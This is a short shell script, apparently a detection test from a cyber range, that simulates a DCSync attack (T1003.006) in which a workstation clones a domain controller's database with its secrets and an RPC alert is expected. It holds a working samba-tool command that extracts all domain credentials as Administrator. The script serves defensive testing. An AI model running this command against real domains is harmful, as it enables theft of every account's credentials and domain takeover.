# SPDX-License-Identifier: Apache-2.0
# what: a workstation replicates the domain with its secrets
# technique: T1003.006
# from: ws1
# to: dc1
# account: Administrator
# outcome: success
# must: alert rpc
. "$RANGE_HERE/item.sh"
rm -rf "$HOME/clone"
says 'Cloned domain' samba-tool drs clone-dc-database $DOMAIN_DNS --include-secrets --targetdir="$HOME/clone" \
	--server=dc1.$DOMAIN_DNS -U "CORP\\Administrator%$ADMIN_PASSWORD"
